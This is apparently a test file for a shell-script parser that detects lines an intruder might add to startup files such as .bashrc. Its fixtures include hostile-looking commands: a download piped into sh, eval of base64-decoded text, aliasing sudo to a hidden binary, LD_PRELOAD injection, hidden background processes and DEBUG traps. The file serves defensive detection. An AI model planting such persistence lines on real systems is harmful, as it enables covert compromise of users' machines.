import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { assertGrowsLinearly } from '../../../test/growth.ts'
import { bytesOf } from '../../core/bytes.ts'
import { isTrap, runsSomething } from './shell-interest.ts'
import { shellUnits } from './shell-units.ts'

const units = (text: string) => [...shellUnits(bytesOf(text))]
const texts = (text: string) => units(text).map(u => u.text)
const running = (text: string) =>
  units(text)
    .filter(runsSomething)
    .map(u => u.text)

test('blocks, quotes, here-documents and continued lines stay in one piece', () => {
  const parts = [
    'if [ -x /a ]; then\n  b\nfi',
    'f() {\n  echo "}"\n}',
    'cat <<EOF | sh\nif never\nEOF',
    "x='a\nb'",
    'curl \\\n  http://192.0.2.1/a | sh',
    'for i in 1 2; do echo $i; done',
    'h ()\n{\n  a | { while read x; do b; done }\n}',
    'a &&\n  b ||\n  c',
    "(cat <<E\nit's `` not\nE\n)",
    'case x in\n{) a;;\nesac',
    'g () {\n  x \\\n  | while read d; do \\\n    if a; then \\\n      b; \\\n    fi; \\\n  done\n}',
    'case $- in\n  *i*) ;;\n  a|b) return;;\nesac',
    'y=$(\n  date\n)',
    'cat <<-"E O"\n\tfi\n\tE O',
    'echo # it\'s "',
    `echo $${'{x#"y"}'} $((1<<2)) <<<word`,
  ]
  assert.deepEqual(texts(`${parts.join('\n')}\n`), parts)
})

test('what is never closed takes one line only', () => {
  assert.deepEqual(texts("echo it's\nnext\nif x\nlast"), ["echo it's", 'next', 'if x', 'last'])
})

test('the skeleton of Debian runs nothing', () => {
  const skeleton = `# ~/.bashrc: executed by bash(1) for non-login shells.
case $- in
    *i*) ;;
      *) return;;
esac
HISTCONTROL=ignoreboth
shopt -s histappend
HISTSIZE=1000
[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
if [ -n "$force_color_prompt" ]; then
    if [ -x /usr/bin/tput ] && tput setaf 1 >&/dev/null; then
\tcolor_prompt=yes
    else
\tcolor_prompt=
    fi
fi
PS1='\${debian_chroot:+($debian_chroot)}\\u@\\h:\\w\\$ '
case "$TERM" in
xterm*|rxvt*)
    PS1="\\[\\e]0;\\u@\\h: \\w\\a\\]$PS1"
    ;;
*)
    ;;
esac
if [ -x /usr/bin/dircolors ]; then
    test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"
    alias ls='ls --color=auto'
fi
if [ -f ~/.bash_aliases ]; then
    . ~/.bash_aliases
fi
if ! shopt -oq posix; then
  if [ -f /usr/share/bash-completion/bash_completion ]; then
    . /usr/share/bash-completion/bash_completion
  elif [ -f /etc/bash_completion ]; then
    . /etc/bash_completion
  fi
fi
mesg n 2> /dev/null || true
`
  assert.deepEqual(running(skeleton), [])
})

test('what an intruder adds is seen', () => {
  for (const line of [
    '/root/.configrc/a/upd >/dev/null 2>&1 &',
    'x=$(curl -s http://192.0.2.1/x)',
    'eval "$(echo aGk= | base64 -d)"',
    'eval $payload',
    'alias sudo=/root/.s',
    "alias ls='/tmp/.x; ls'",
    '. /var/spool/.hidden',
    'pgrep -f x || nohup /opt/x &',
    'export LD_PRELOAD=/lib/x.so',
    'if ! pidof x; then\n  /usr/bin/x\nfi',
    '"/usr/bin/x"',
    '`/usr/bin/x`',
    'A=1 /usr/bin/x',
  ]) {
    assert.deepEqual(running(`a=1\n${line}\nb=2\n`), [line])
  }
})

test('traps are told from other lines', () => {
  assert.deepEqual(units("trap '/a' DEBUG\ntrap -p\ntrap - EXIT\nPROMPT_COMMAND='/a'\nstrap x\n").map(isTrap), [
    true,
    false,
    false,
    true,
    false,
  ])
})

const shellish = fc
  .array(
    fc.constantFrom(
      'if ',
      'fi',
      'do ',
      'done',
      '{ ',
      '}',
      'case x in ',
      'esac',
      "'",
      '"',
      '`',
      '$(',
      ')',
      '(',
      '\\',
      '\n',
      '\n',
      ';',
      '<<E',
      'E',
      '#',
      'curl ',
      ' x',
      '${',
      '\r\n',
      '\0',
    ),
    { maxLength: 60 },
  )
  .map(parts => bytesOf(parts.join('')))

test('any bytes: never throws, and the spans cover every byte once', () => {
  fc.assert(
    fc.property(fc.oneof(fc.uint8Array({ maxLength: 300 }), shellish), bytes => {
      let at = 0
      for (const unit of shellUnits(bytes)) {
        assert.equal(unit.span.start, at)
        assert.ok(unit.span.end > at)
        runsSomething(unit)
        isTrap(unit)
        at = unit.span.end
      }
      assert.equal(at, bytes.length)
    }),
    { numRuns: 2000 },
  )
})

test('openers, quotes or one endless line: reading takes as long as they are', () => {
  for (const piece of ['if\n', "'\n", '<<E\n', '$(', '"${', 'a ', '\\\n', '<<"', '<'])
    assertGrowsLinearly(
      size => {
        for (const unit of shellUnits(bytesOf(piece.repeat(size / piece.length)))) runsSomething(unit)
      },
      8192,
      JSON.stringify(piece),
    )
})
